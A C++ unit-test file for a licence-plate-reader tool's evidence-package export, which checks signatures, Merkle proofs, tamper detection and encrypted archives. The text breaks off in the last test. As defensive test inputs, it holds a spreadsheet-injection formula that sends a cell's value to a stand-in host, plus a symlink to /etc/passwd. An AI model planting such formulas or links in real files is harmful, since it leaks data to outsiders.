// SPDX-License-Identifier: GPL-3.0-or-later
// The evidence package without the facade: content built in the test with a real audit log (for
// the export record, its proof, the checkpoint and the signature), written to a folder, verified,
// then tampered with the way an attacker or a damaged medium would.
#include "BagTestSupport.h"

#include "platedesk/audit/AuditLog.h"
#include "platedesk/common/Hash.h"
#include "platedesk/evidence/Package.h"
#include "platedesk/evidence/SigningKeys.h"

#include <boost/test/unit_test.hpp>

#include <algorithm>
#include <csignal>
#include <cstdio>
#include <fstream>
#include <future>
#include <set>
#include <thread>
#include <zip.h>

#ifndef _WIN32
#include <sys/wait.h>
#include <unistd.h>
#endif

namespace fs = std::filesystem;
using namespace platedesk;
using namespace platedesk::evidence;
using namespace platedesk::evidence::test;

namespace {

struct PackageFixture {
  TempFolder temp{"evidence-package-test"};
  ManualClock clock{UtcFromCivil(2026, 11, 2, 8)};
  std::unique_ptr<audit::AuditLog> log;
  std::map<std::string, std::string> imageStore;  // sha -> bytes
  PackageContent content;
  fs::path media = temp.Path() / "media";

  PackageFixture() {
    fs::create_directories(media);
    fs::create_directories(temp.Path() / "storage");
    log = audit::AuditLog::Open(temp.Path() / "storage/audit.db", {"test-storage", "ws-01", "0.1.0"}, clock).Value();
    const std::string jpeg = "\xFF\xD8\xFF\xE0 plate crop of ABC123 \xFF\xD9";
    const std::string png = "\x89PNG\r\n\x1a\n overview image";
    for (const auto& bytes : {jpeg, png}) imageStore[Sha256Hex(bytes)] = bytes;
    content.packageId = RandomHex(16);
    content.agency = "Test County Sheriff";
    content.contactName = "Dana Reyes";
    content.caseNumber = "26-004512";
    content.caseTitle = "Burglary, 5th Ave";
    content.purposeCode = "INV-PROPERTY";
    content.purposeText = "Property crime investigation";
    content.justification = "Burglary at 5th Ave, grey sedan seen leaving";
    content.exportedBy = "d.reyes";
    content.workstation = "ws-01";
    content.softwareVersion = "0.1.0";
    content.exportedAt = clock.Now();
    content.utcOffsetMinutes = -480;
    content.selectionMethod = "reads";
    content.selection = {{"reads", "1,2"}};
    store::Camera cam;
    cam.id = 1;
    cam.externalId = "cam-1";
    cam.name = "Aurora Ave N, \"north\" <side>";
    cam.locations = {{47.69, -122.34, "Aurora Ave N & N 85th St", 0, std::nullopt}};
    content.cameras = {cam};
    for (int i = 1; i <= 2; ++i) {
      store::Read r;
      r.id = i;
      r.sourceFormat = "csv";
      r.sourceUuid = "u-" + std::to_string(i);
      r.capturedAt = clock.Now() - i * kMsPerHour;
      r.camera = 1;
      r.plateReported = r.plate = "ABC12" + std::to_string(i);
      r.state = "WA";
      r.confidence = 91.5;
      r.candidates = {{"A8C12" + std::to_string(i), "A8C12" + std::to_string(i), 70}};
      r.vehicle.color = {{"grey", 80}};
      r.plateImage = Sha256Hex(jpeg);
      if (i == 2) r.vehicleImage = Sha256Hex(png);
      r.payloadSha256 = Sha256Hex(r.sourceUuid);
      r.ingestedAt = clock.Now();
      content.reads.push_back(r);
    }
    content.corrections[1] = {{7, 1, "ABC128", "WA", "8 read as 1", "d.reyes", clock.Now()}};
    content.images = {{Sha256Hex(jpeg), jpeg.size(), "image/jpeg", 10, 5},
                      {Sha256Hex(png), png.size(), "image/png", 10, 5}};
    content.imageBytes = [this](const std::string& sha) -> Result<std::string> {
      auto it = imageStore.find(sha);
      if (it == imageStore.end()) return Fail(ErrorCode::NotFound, "no image");
      return it->second;
    };
    Anchor();
    content.verifierKey = log->VerifierKey().Value();
    content.sign = [this](std::string_view text) { return log->SignStatement(text); };
    content.mediaType = "folder";
  }

  // The export.start record naming the package, every read and image; checkpoint; proof.
  void Anchor() {
    audit::AuditEvent e{.event = "export.start",
                        .user = content.exportedBy,
                        .session = "s1",
                        .caseNumber = content.caseNumber,
                        .purposeCode = content.purposeCode,
                        .purposeText = content.purposeText,
                        .justification = content.justification};
    e.objects = {"package:" + content.packageId, "read:1", "read:2"};
    for (const auto& i : content.images) e.objects.push_back("image:" + i.sha256);
    for (int i = 0; i < 4; ++i) (void)log->Append({.event = "logout", .user = "x", .session = "s0"}).Value();
    auto rec = log->Append(e).Value();
    (void)log->Append({.event = "logout", .user = "x", .session = "s0"}).Value();
    auto cp = log->SignCheckpoint().Value();
    content.anchor = {rec.canonical, rec.seq, cp.size, log->InclusionProof(rec.seq, cp.size).Value(), cp.note};
  }

  WrittenPackage Write() {
    auto w = WritePackage(content, media);
    BOOST_REQUIRE_MESSAGE(w.Ok(), (w.Ok() ? "" : w.Err().ToString()));
    return *w;
  }

  PackageVerification Verify(const fs::path& p, std::optional<std::string> key = std::nullopt) {
    auto v = VerifyPackage(p, key ? key : std::optional<std::string>(content.verifierKey));
    BOOST_REQUIRE(v.Ok());
    return *v;
  }
};

void Replace(const fs::path& file, const std::string& from, const std::string& to) {
  std::string s = ReadFile(file).Value();
  const auto pos = s.find(from);
  BOOST_REQUIRE_MESSAGE(pos != std::string::npos, from << " not in " << file);
  s.replace(pos, from.size(), to);
  Put(file.parent_path(), file.filename().string(), s);
}

}  // namespace

BOOST_FIXTURE_TEST_SUITE(PackageTest, PackageFixture)

BOOST_AUTO_TEST_CASE(a_written_package_verifies_and_holds_what_it_should) {
  auto w = Write();
  BOOST_TEST(w.name.rfind("PlateDesk-26-004512-20261102T080000Z-", 0) == 0);
  auto v = Verify(w.path);
  BOOST_TEST(v.valid, v.firstProblem);
  BOOST_TEST(v.reads == 2u);
  BOOST_TEST(v.images == 2u);
  BOOST_TEST(v.caseNumber == "26-004512");
  for (const char* f :
       {"data/reads.csv", "data/reads.json", "data/selection.json", "data/report.html", "data/report.pdf",
        "data/custody.json", "data/certification-FRE-902-14.txt", "data/audit/export-event.json",
        "data/audit/checkpoint.txt", "README.txt", "platedesk-key.txt", "platedesk-signature.txt", "bag-info.txt"})
    BOOST_TEST(fs::is_regular_file(w.path / f), f);
  const auto csv = ReadFile(w.path / "data/reads.csv").Value();
  BOOST_TEST(csv.find("ABC128") != std::string::npos);  // the correction beside the original
  BOOST_TEST(csv.find(",ABC121,") != std::string::npos);
  const auto html = ReadFile(w.path / "data/report.html").Value();
  BOOST_TEST(html.find("&quot;north&quot; &lt;side&gt;") != std::string::npos);  // escaped
  const auto pdf = ReadFile(w.path / "data/report.pdf").Value();
  BOOST_TEST(pdf.rfind("%PDF-", 0) == 0);
  BOOST_TEST(pdf.find("%%EOF") != std::string::npos);
  BOOST_TEST(pdf.size() > 2000u);
  const auto custody = ReadFile(w.path / "data/custody.json").Value();
  BOOST_TEST(custody.find("2026-11-02T00:00:00.000-08:00") != std::string::npos);
  const auto info = ReadFile(w.path / "bag-info.txt").Value();
  BOOST_TEST(info.find("External-Identifier: 26-004512\n") != std::string::npos);
  BOOST_TEST(info.find("Source-Organization: Test County Sheriff\n") != std::string::npos);
  BOOST_TEST(Sha256Hex(ReadFile(w.path / "tagmanifest-sha256.txt").Value()) == w.sha256);
  // Nothing else on the medium: no partial folder left.
  BOOST_TEST(std::distance(fs::directory_iterator(media), fs::directory_iterator()) == 1);
}

BOOST_AUTO_TEST_CASE(sha512sum_checks_the_package_with_standard_tools) {
  auto w = Write();
  const std::string cmd = "cd '" + w.path.string() +
                          "' && sha512sum --quiet -c manifest-sha512.txt && "
                          "sha512sum --quiet -c tagmanifest-sha512.txt && sha256sum --quiet -c manifest-sha256.txt";
  BOOST_TEST(std::system(cmd.c_str()) == 0);
  Replace(w.path / "data/reads.csv", "ABC121", "ABC129");
  BOOST_TEST(std::system((cmd + " 2>/dev/null").c_str()) != 0);
}

BOOST_AUTO_TEST_CASE(without_a_trusted_key_the_package_key_is_used_with_a_warning) {
  auto w = Write();
  auto v = VerifyPackage(w.path).Value();
  BOOST_TEST(v.valid, v.firstProblem);
  BOOST_TEST(v.keyFromPackage);
  BOOST_TEST(!v.warnings.empty());
}

BOOST_AUTO_TEST_CASE(only_a_trusted_key_verifies_the_signer_and_a_list_may_hold_several) {
  auto w = Write();
  auto bare = VerifyPackage(w.path, std::vector<std::string>{}).Value();
  BOOST_TEST(bare.valid, bare.firstProblem);
  BOOST_TEST(bare.keyFromPackage);
  BOOST_TEST(!bare.SignerVerified());  // intact, signer not verified
  fs::create_directories(temp.Path() / "other");
  auto other =
      audit::AuditLog::Open(temp.Path() / "other/audit.db", {"other-storage", "ws-02", "0.1.0"}, clock).Value();
  const std::string otherKey = other->VerifierKey().Value();
  auto both = VerifyPackage(w.path, std::vector<std::string>{otherKey, content.verifierKey}).Value();
  BOOST_TEST(both.SignerVerified(), both.firstProblem);
  auto wrong = VerifyPackage(w.path, std::vector<std::string>{otherKey}).Value();
  BOOST_TEST(!wrong.valid);
  BOOST_TEST(wrong.firstProblem.find("not a trusted key") != std::string::npos, wrong.firstProblem);
  // The package's own key file, published by the agency, is a trusted-keys file as it is.
  auto parsed = ParseTrustedKeys(ReadFile(w.path / std::string(kKeyFile)).Value());
  BOOST_REQUIRE(parsed.Ok());
  BOOST_TEST((*parsed == std::vector<std::string>{content.verifierKey}));
  BOOST_TEST((ParseTrustedKeys("# comment\n\n" + otherKey + "\n" + content.verifierKey + "\n").Value().size() == 2u));
  BOOST_TEST((ParseTrustedKeys("not a key at all\n").Err().code == ErrorCode::InvalidArgument));
  BOOST_TEST((ParseTrustedKeys("# nothing\n").Err().code == ErrorCode::InvalidArgument));
}

BOOST_AUTO_TEST_CASE(with_separate_keys_the_evidence_key_signs_and_the_audit_key_does_not_count) {
  auto evidenceKeys =
      SigningKeys::Create(temp.Path() / "storage", "platedesk.local/test-storage/evidence", {}, clock.Now(),
                          [](const std::string&, const std::string&) -> Status { return {}; })
          .Value();
  const std::string auditKey = log->VerifierKey().Value();
  const std::string evidenceKey = evidenceKeys->VerifierKey();
  content.verifierKey = evidenceKey;
  content.auditVerifierKey = auditKey;
  content.sign = [&](std::string_view text) { return evidenceKeys->Sign(text); };
  auto w = Write();
  auto good = VerifyPackage(w.path, std::vector<std::string>{evidenceKey}).Value();
  BOOST_TEST(good.SignerVerified(), good.firstProblem);
  BOOST_TEST(good.keyId == audit::ParseVerifierKey(evidenceKey)->KeyIdHex());
  const auto checkpoint = std::find_if(good.checks.begin(), good.checks.end(),
                                       [](const PackageCheck& c) { return c.name == "checkpoint"; });
  BOOST_REQUIRE(checkpoint != good.checks.end());
  BOOST_TEST(checkpoint->detail.find(audit::ParseVerifierKey(auditKey)->KeyIdHex()) != std::string::npos,
             checkpoint->detail);
  // The audit key is named in the key file, but trusting it does not make the package verify.
  auto byAuditKey = VerifyPackage(w.path, std::vector<std::string>{auditKey}).Value();
  BOOST_TEST(!byAuditKey.valid);
  BOOST_TEST(byAuditKey.firstProblem.find("not a trusted key") != std::string::npos, byAuditKey.firstProblem);
  // Published as it is, the key file trusts the evidence key alone.
  BOOST_TEST((ParseTrustedKeys(ReadFile(w.path / std::string(kKeyFile)).Value()).Value() ==
              std::vector<std::string>{evidenceKey}));

  // Vice versa: a package made by whoever holds only the audit key (signed with it) fails against
  // the evidence keys.
  PackageContent forger = content;
  forger.verifierKey = auditKey;
  forger.auditVerifierKey.clear();
  forger.sign = [&](std::string_view text) { return log->SignStatement(text); };
  fs::create_directories(temp.Path() / "forged");
  auto forged = WritePackage(forger, temp.Path() / "forged").Value();
  auto refused = VerifyPackage(forged.path, std::vector<std::string>{evidenceKey}).Value();
  BOOST_TEST(!refused.valid);
  BOOST_TEST(refused.firstProblem.find("signature") == 0u, refused.firstProblem);

  // A checkpoint the named audit key did not sign: the writer's own read-back refuses it.
  content.auditVerifierKey = audit::NoteSigner::Generate("platedesk.local/test-storage")->Verifier().Encode();
  fs::create_directories(temp.Path() / "mismatched");
  auto mismatched = WritePackage(content, temp.Path() / "mismatched");
  BOOST_REQUIRE(!mismatched.Ok());
  BOOST_TEST((mismatched.Err().code == ErrorCode::Corrupt), mismatched.Err().ToString());
}

BOOST_AUTO_TEST_CASE(camera_text_that_a_spreadsheet_would_run_gets_an_apostrophe_in_reads_csv) {
  content.reads[0].plateReported = "=HYPERLINK(\"http://x.test/\"&A1)";
  content.reads[0].vehicle.make = {{"@sum(a1)", 60}};
  content.reads[0].vehicle.model = {{"+cmd", 60}};
  content.reads[0].vehicle.body = {{"-2+3", 60}};
  content.reads[1].vehicle.color = {{"\tgrey", 60}};
  auto w = Write();
  const std::string csv = ReadFile(w.path / "data/reads.csv").Value();
  BOOST_TEST(csv.find(",\"'=HYPERLINK(\"\"http://x.test/\"\"&A1)\",") != std::string::npos, csv);
  for (const char* cell : {",'@sum(a1),", ",'+cmd,", ",'-2+3,", ",'\tgrey,"})
    BOOST_TEST(csv.find(cell) != std::string::npos, cell);
  BOOST_TEST(csv.find(",-122.34,") != std::string::npos, csv);  // a negative longitude stays a number
  const std::string json = ReadFile(w.path / "data/reads.json").Value();
  BOOST_TEST(json.find("\"=HYPERLINK(") != std::string::npos);  // JSON keeps the value as stored
  BOOST_TEST(Verify(w.path).valid);
}

BOOST_AUTO_TEST_CASE(tampering_is_detected_and_named) {
  struct Tamper {
    const char* name;
    std::function<void(const fs::path&, PackageFixture&)> apply;
    const char* expect;  ///< first failing check
  };
  const std::vector<Tamper> cases = {
      {"changed image byte",
       [](const fs::path& p, PackageFixture& f) {
         const auto file = p / "data/images" / (f.content.images[0].sha256 + ".jpg");
         std::string s = ReadFile(file).Value();
         s[5] ^= 1;
         Put(file.parent_path(), file.filename().string(), s);
       },
       "bagit"},
      {"image replaced and manifests rewritten (no valid signature)",
       [](const fs::path& p, PackageFixture& f) {
         const auto file = p / "data/images" / (f.content.images[0].sha256 + ".jpg");
         Put(file.parent_path(), file.filename().string(), "other bytes");
       },
       "bagit"},
      {"removed file", [](const fs::path& p, PackageFixture&) { fs::remove(p / "data/custody.json"); }, "bagit"},
      {"extra file", [](const fs::path& p, PackageFixture&) { Put(p, "data/extra.txt", "x"); }, "bagit"},
      {"extra top-level file", [](const fs::path& p, PackageFixture&) { Put(p, "open-me.html", "<script>"); }, "bagit"},
      {"edited bag-info",
       [](const fs::path& p, PackageFixture&) { Replace(p / "bag-info.txt", "26-004512", "26-004513"); }, "bagit"},
      {"replaced signature",
       [](const fs::path& p, PackageFixture& f) {
         auto other = audit::NoteSigner::Generate(audit::ParseVerifierKey(f.content.verifierKey)->name).Value();
         const auto note = audit::ParseSignedNote(ReadFile(p / "platedesk-signature.txt").Value()).Value();
         Put(p, "platedesk-signature.txt", other.Sign(note.text).Value());
       },
       "signature"},
      {"removed signature", [](const fs::path& p, PackageFixture&) { fs::remove(p / "platedesk-signature.txt"); },
       "signature"},
      {"fetch.txt added", [](const fs::path& p, PackageFixture&) { Put(p, "fetch.txt", "http://x 1 data/y\n"); },
       "bagit"},
      {"symlink added", [](const fs::path& p, PackageFixture&) { fs::create_symlink("/etc/passwd", p / "data/link"); },
       "bagit"},
  };
  for (const auto& t : cases) {
    auto w = Write();
    t.apply(w.path, *this);
    auto v = Verify(w.path);
    BOOST_TEST(!v.valid, t.name);
    BOOST_TEST(v.firstProblem.rfind(std::string(t.expect) + ":", 0) == 0, t.name << ": " << v.firstProblem);
    fs::remove_all(w.path);
  }
}

BOOST_AUTO_TEST_CASE(a_forged_proof_fails_even_when_the_bag_is_rebuilt_consistently) {
  // The strongest forger: edits the export record or its proof and re-creates every manifest, so
  // BagIt passes; only the signature and the Merkle proof stand in the way.
  const std::vector<std::function<void(const fs::path&)>> forgeries = {
      [](const fs::path& f) { Replace(f, "\\\"user\\\":\\\"d.reyes\\\"", "\\\"user\\\":\\\"someone\\\""); },
      [](const fs::path& f) {
        std::string s = ReadFile(f).Value();
        const auto pos = s.find("\"inclusion_proof\": [");
        BOOST_REQUIRE(pos != std::string::npos);
        const auto hex = s.find('"', s.find('"', pos + 20) + 0) + 1;  // first proof hash
        s[hex] = s[hex] == '0' ? '1' : '0';
        Put(f.parent_path(), f.filename().string(), s);
      },
  };
  int n = 0;
  for (const auto& forge : forgeries) {
    auto w = Write();
    forge(w.path / "data/audit/export-event.json");
    auto rebuilt = temp.Path() / ("rebuilt" + std::to_string(n++));
    std::map<std::string, std::string> payload;
    for (const auto& e : fs::recursive_directory_iterator(w.path / "data"))
      if (e.is_regular_file()) payload[fs::relative(e.path(), w.path).generic_string()] = ReadFile(e.path()).Value();
    HandBag(rebuilt, payload, {{"platedesk-key.txt", ReadFile(w.path / "platedesk-key.txt").Value()}});
    fs::copy_file(w.path / "platedesk-signature.txt", rebuilt / "platedesk-signature.txt");
    auto v = Verify(rebuilt);
    BOOST_TEST(!v.valid);
    bool proofFailed = false, bagOk = false;
    for (const auto& c : v.checks) {
      if (c.name == "inclusion proof") proofFailed = !c.ok;
      if (c.name == "bagit") bagOk = c.ok;
    }
    BOOST_TEST(bagOk);        // the forger did rebuild a consistent bag...
    BOOST_TEST(proofFailed);  // ...but the proof does not lead to the signed root
    fs::remove_all(w.path);
  }
}

BOOST_AUTO_TEST_CASE(a_proof_for_another_tree_or_a_foreign_checkpoint_fails) {
  auto w = Write();
  // A checkpoint signed by another key (a forged log).
  auto other = audit::NoteSigner::Generate("platedesk.local/test-storage").Value();
  const auto note = audit::ParseSignedNote(ReadFile(w.path / "data/audit/checkpoint.txt").Value()).Value();
  const auto forged = other.Sign(note.text).Value();
  auto copy = temp.Path() / "copy";
  fs::copy(w.path, copy, fs::copy_options::recursive);
  Put(copy / "data/audit", "checkpoint.txt", forged);
  auto v = Verify(copy);
  BOOST_TEST(!v.valid);  // bagit fails first (the file changed) and the checkpoint check fails too
  bool cpFailed = false;
  for (const auto& c : v.checks)
    if (c.name == "checkpoint") cpFailed = !c.ok;
  BOOST_TEST(cpFailed);
}

BOOST_AUTO_TEST_CASE(a_package_signed_by_another_key_fails_against_the_trusted_key) {
  auto w = Write();
  auto other = audit::NoteSigner::Generate("platedesk.local/other").Value();
  auto v = Verify(w.path, other.Verifier().Encode());
  BOOST_TEST(!v.valid);
  BOOST_TEST(v.firstProblem.rfind("signature:", 0) == 0, v.firstProblem);
}

#ifndef _WIN32
BOOST_AUTO_TEST_CASE(links_and_pipes_in_a_package_are_never_followed_or_opened) {
  const auto written = Write();
  fs::path image;
  for (const auto& e : fs::directory_iterator(written.path / "data/images")) image = e.path();
  // Links to identical copies outside the package: the checks past the bag must not read them
  // (a link could as well point at /dev/zero or at a file the verifier has no business opening).
  const auto linked = temp.Path() / "linked";
  fs::copy(written.path, linked, fs::copy_options::recursive);
  const auto outside = temp.Path() / "outside";
  fs::create_directories(outside);
  for (const auto& rel : {fs::path("data/images") / image.filename(), fs::path("tagmanifest-sha512.txt")}) {
    fs::copy_file(linked / rel, outside / rel.filename());
    fs::remove(linked / rel);
    fs::create_symlink(outside / rel.filename(), linked / rel);
  }
  auto v = Verify(linked);
  BOOST_TEST(!v.valid);
  for (const auto& c : v.checks) {
    if (c.name == "images" || c.name == "signature") BOOST_TEST(!c.ok, c.name << ": " << c.detail);
  }
  // A named pipe instead of an image would block the verifier for ever.
  const auto piped = temp.Path() / "piped";
  fs::copy(written.path, piped, fs::copy_options::recursive);
  const auto fifo = piped / "data/images" / image.filename();
  MakeFifo(fifo);
  PackageVerification pv;
  const bool finished = FinishesWithoutTheFifo(fifo, [&] { pv = VerifyPackage(piped, content.verifierKey).Value(); });
  BOOST_TEST(finished, "VerifyPackage blocked on a named pipe");
  BOOST_TEST(!pv.valid);
}
#endif

BOOST_AUTO_TEST_CASE(an_image_that_does_not_match_its_recorded_hash_is_not_written) {
  imageStore[content.images[0].sha256] = "swapped bytes";
  auto w = WritePackage(content, media);
  BOOST_REQUIRE(!w.Ok());
  BOOST_TEST((w.Err().code == ErrorCode::Corrupt));
  BOOST_TEST(fs::is_empty(media));
}

BOOST_AUTO_TEST_CASE(a_failure_or_cancellation_leaves_nothing_that_looks_complete) {
  WriteOptions failing;
  failing.fault = [](std::string_view rel) -> Status {
    if (rel == "platedesk-signature.txt") return Fail(ErrorCode::Io, "the medium is full");
    return {};
  };
  auto w = WritePackage(content, media, failing);
  BOOST_REQUIRE(!w.Ok());
  BOOST_TEST(fs::is_empty(media));
  std::stop_source stop;
  stop.request_stop();
  WriteOptions cancelled;
  cancelled.stop = stop.get_token();
  w = WritePackage(content, media, cancelled);
  BOOST_REQUIRE(!w.Ok());
  BOOST_TEST((w.Err().code == ErrorCode::Cancelled));
  BOOST_TEST(fs::is_empty(media));
}

#ifndef _WIN32
namespace {
// Runs an export in a child process that is killed outright (no destructor, no cleanup) once it
// has written some of the package, as a pulled plug or `kill -9` would; returns the hidden folders
// it left on the medium.
std::vector<fs::path> KilledExport(const PackageContent& content, const fs::path& media, bool encrypted) {
  std::fflush(nullptr);
  const pid_t child = ::fork();
  BOOST_REQUIRE(child >= 0);
  if (child == 0) {
    // The killed child's own staging (an encrypted export's clear bag) stays inside the test's folder.
    const fs::path childTemp = media.parent_path() / "child-tmp";
    fs::create_directories(childTemp);
    ::setenv("TMPDIR", childTemp.c_str(), 1);
    WriteOptions o;
    o.passphrase = encrypted ? GeneratePassphrase() : std::string();
    if (!encrypted)
      o.fault = [](std::string_view rel) -> Status {
        if (rel == "data/reads.json") ::raise(SIGKILL);
        return {};
      };
    // Encrypted: killed while the zip is being written on the medium (its progress callback; the
    // pause lets every report past the writer's 10-a-second throttle).
    o.progress = [encrypted, media](std::uint64_t, std::uint64_t) {
      if (!encrypted) return;
      for (const auto& e : fs::directory_iterator(media))
        if (e.path().filename().string().rfind(".PlateDesk-evidence-", 0) == 0) ::raise(SIGKILL);
      std::this_thread::sleep_for(std::chrono::milliseconds(120));
    };
    (void)WritePackage(content, media, o);
    ::_exit(3);  // not killed: the test below fails on the status
  }
  int status = 0;
  ::waitpid(child, &status, 0);
  BOOST_TEST((WIFSIGNALED(status) && WTERMSIG(status) == SIGKILL), "the export was not killed: " << status);
  std::vector<fs::path> left;
  for (const auto& e : fs::directory_iterator(media)) left.push_back(e.path());
  return left;
}
}  // namespace

BOOST_AUTO_TEST_CASE(the_next_export_removes_what_a_killed_export_left) {
  for (const bool encrypted : {false, true}) {
    BOOST_TEST_CONTEXT((encrypted ? "encrypted" : "clear")) {
      fs::remove_all(media);
      fs::create_directories(media);
      const auto left = KilledExport(content, media, encrypted);
      BOOST_REQUIRE_EQUAL(left.size(), 1u);
      BOOST_TEST(left[0].filename().string().rfind(".PlateDesk-", 0) == 0, left[0]);
      BOOST_TEST(fs::is_directory(left[0]));
      // The next export to the same folder removes it, and writes its own package.
      content.packageId = RandomHex(16);
      Anchor();
      WriteOptions o;
      if (encrypted) o.passphrase = GeneratePassphrase();
      auto w = WritePackage(content, media, o);
      BOOST_REQUIRE_MESSAGE(w.Ok(), (w.Ok() ? "" : w.Err().ToString()));
      std::vector<fs::path> now;
      for (const auto& e : fs::directory_iterator(media)) now.push_back(e.path());
      BOOST_TEST_REQUIRE(now.size() == 1u);
      BOOST_TEST(now[0] == w->path);
    }
  }
}

BOOST_AUTO_TEST_CASE(stale_partial_cleanup_touches_nothing_platedesk_did_not_make) {
  const auto left = KilledExport(content, media, false);
  BOOST_REQUIRE_EQUAL(left.size(), 1u);
  const std::string marker = ReadFile(left[0] / ".platedesk-partial").Value();
  fs::remove_all(left[0]);
  // Look-alikes: no marker; a marker with other text; a marker that is a link to a real one; a
  // link to a real stale folder; a real stale folder whose name is not hidden the PlateDesk way.
  Put(media / ".PlateDesk-no-marker.partial", "keep.txt", "mine");
  Put(media / ".PlateDesk-other-text.partial", ".platedesk-partial", "something else\n");
  const auto elsewhere = temp.Path() / "elsewhere";
  Put(elsewhere / "real.partial", ".platedesk-partial", marker);
  Put(elsewhere / "real.partial", "keep.txt", "mine");
  fs::create_directories(media / ".PlateDesk-linked-marker.partial");
  fs::create_symlink(elsewhere / "real.partial/.platedesk-partial",
                     media / ".PlateDesk-linked-marker.partial/.platedesk-partial");
  fs::create_directory_symlink(elsewhere / "real.partial", media / ".PlateDesk-linked-folder.partial");
  Put(media / "PlateDesk-visible.partial", ".platedesk-partial", marker);
  Put(media, "notes.txt", "mine");
  std::set<fs::path> before;
  for (const auto& e : fs::recursive_directory_iterator(media)) before.insert(e.path());
  (void)Write();
  std::set<fs::path> after;
  for (const auto& e : fs::recursive_directory_iterator(media))
    if (e.path().filename().string().rfind("PlateDesk-26-004512", 0) != 0 &&
        e.path().string().find("/PlateDesk-26-004512") == std::string::npos)
      after.insert(e.path());
  BOOST_TEST(before == after);
  BOOST_TEST(fs::exists(elsewhere / "real.partial/keep.txt"));
}

BOOST_AUTO_TEST_CASE(a_running_export_keeps_its_partial_folder) {
  // Another export to the same medium is half way through (paused in its fault hook) while this
  // one runs: its partial folder is not stale.
  std::promise<void> paused, resume;
  auto resumed = resume.get_future().share();
  PackageContent first = content;
  WriteOptions o;
  o.fault = [&paused, resumed](std::string_view rel) -> Status {
    if (rel == "data/reads.json") {
      paused.set_value();
      resumed.wait();
    }
    return {};
  };
  auto running = std::async(std::launch::async, [&] { return WritePackage(first, media, o); });
  BOOST_REQUIRE(paused.get_future().wait_for(std::chrono::seconds(20)) == std::future_status::ready);
  content.packageId = RandomHex(16);
  Anchor();
  auto second = WritePackage(content, media);
  resume.set_value();
  auto firstDone = running.get();
  BOOST_TEST(second.Ok(), (second.Ok() ? "" : second.Err().ToString()));
  BOOST_TEST(firstDone.Ok(), (firstDone.Ok() ? "" : firstDone.Err().ToString()));
}
#endif

BOOST_AUTO_TEST_CASE(progress_is_reported_up_to_the_total) {
  std::uint64_t last = 0, total = 0;
  WriteOptions o;
  o.progress = [&](std::uint64_t d, std::uint64_t t) {
    BOOST_TEST(d <= t);
    last = d;
    total = t;
  };
  (void)Write();
  auto w = WritePackage(content, temp.Path(), o);  // a second destination
  BOOST_REQUIRE(w.Ok());
  BOOST_TEST(total > 0u);
  BOOST_TEST(last == total);
}

BOOST_AUTO_TEST_CASE(free_space_and_the_fat32_file_limit_are_checked_first) {
  MediaInfo fat{"vfat", 8ull << 30, 0xFFFFFFFFull, true, "/dev/sdb1", ""};
  BOOST_TEST(CheckFits(fat, 1u << 20, 1u << 20).Ok());
  auto big = CheckFits(fat, 6ull << 30, 5ull << 30);
  BOOST_REQUIRE(!big.Ok());
  BOOST_TEST(big.Err().message.find("larger than this file system allows") != std::string::npos);
  auto full = CheckFits(fat, 9ull << 30, 1u << 20);
  BOOST_REQUIRE(!full.Ok());
  BOOST_TEST(full.Err().message.find("not enough free space") != std::string::npos);
  WriteOptions o;
  o.probe = [](const fs::path&) -> Result<MediaInfo> { return MediaInfo{"vfat", 1000, 0xFFFFFFFFull, true, "", ""}; };
  BOOST_TEST(!WritePackage(content, media, o).Ok());
  BOOST_TEST(fs::is_empty(media));
  auto real = ProbeMedia(media);
  BOOST_REQUIRE(real.Ok());
  BOOST_TEST(real->freeBytes > 0u);
}

BOOST_AUTO_TEST_CASE(removable_drives_are_found_in_the_mount_table) {
  const std::string mounts =
      "/dev/sda2 / ext4 rw,relatime 0 0\n"
      "proc /proc proc rw 0 0\n"
      "/dev/sdb1 /media/dana/EVIDENCE\\04042 vfat rw,nosuid 0 0\n"
      "/dev/mmcblk0p1 /media/dana/CARD exfat rw 0 0\n"
      "/dev/nvme0n1p3 /home ext4 rw 0 0\n";
  auto drives =
      RemovableDrivesFromMounts(mounts, [](const std::string& disk) { return disk == "sdb" || disk == "mmcblk0"; });
  BOOST_REQUIRE(drives.size() == 2u);
  BOOST_TEST(drives[0].mountPoint == fs::path("/media/dana/EVIDENCE 42"));
  BOOST_TEST(drives[0].fileSystem == "vfat");
  BOOST_TEST(drives[1].device == "/dev/mmcblk0p1");
  (void)ListRemovableDrives();  // the real machine: must not fail, whatever it has
}

namespace {
int Shell(const std::string& cmd) { return std::system((cmd + " >/dev/null 2>&1").c_str()); }
std::string ShellOut(const std::string& cmd) {
  std::string out;
  if (FILE* p = popen(cmd.c_str(), "r")) {
    char buf[4096];
    while (std::size_t n = std::fread(buf, 1, sizeof buf, p)) out.append(buf, n);
    pclose(p);
  }
  return out;
}
}  // namespace

BOOST_AUTO_TEST_CASE(an_encrypted_package_is_one_aes_zip_that_7zip_opens_and_verify_accepts) {
  const std::string pass = GeneratePassphrase();
  BOOST_TEST(pass.size() == 35u);  // 30 symbols of 5 bits = 150 bits, in groups of five
  BOOST_TEST(GeneratePassphrase() != pass);
  WriteOptions o;
  o.passphrase = pass;
  auto w = WritePackage(content, media, o);
  BOOST_REQUIRE_MESSAGE(w.Ok(), (w.Ok() ? "" : w.Err().ToString()));
  BOOST_TEST(w->encrypted);
  BOOST_TEST(w->path.extension() == ".zip");
  BOOST_TEST(w->path.filename().string().find("26-004512") == std::string::npos);  // the case stays inside
  BOOST_TEST(std::distance(fs::directory_iterator(media), fs::directory_iterator()) == 1);
  BOOST_TEST(Sha256Hex(ReadFile(w->path).Value()) == w->sha256);
  const std::string zip = "'" + w->path.string() + "'";
  // What a recipient does on Windows or Linux: 7-Zip tests the archive with the passphrase...
  BOOST_TEST(Shell("7zz t -p'" + pass + "' " + zip) == 0);
  BOOST_TEST(Shell("7zz t -pwrong-passphrase " + zip) != 0);
  // ...and without it sees one entry whose name says nothing.
  const std::string listing = ShellOut("7zz l -slt -p- " + zip + " 2>&1");
  BOOST_TEST(listing.find("Path = evidence.zip") != std::string::npos, listing);
  BOOST_TEST(listing.find("AES-256") != std::string::npos, listing);
  BOOST_TEST(listing.find("reads.csv") == std::string::npos);
  BOOST_TEST(listing.find("data/") == std::string::npos);
  BOOST_TEST(listing.find("26-004512") == std::string::npos);

  auto v = VerifyPackageArchive(w->path, pass, content.verifierKey);
  BOOST_REQUIRE(v.Ok());
  BOOST_TEST(v->valid, v->firstProblem);
  BOOST_TEST(v->checks.front().name == "archive");
  auto wrong = VerifyPackageArchive(w->path, "nope", content.verifierKey);
  BOOST_REQUIRE(!wrong.Ok());
  BOOST_TEST((wrong.Err().code == ErrorCode::Unauthenticated));
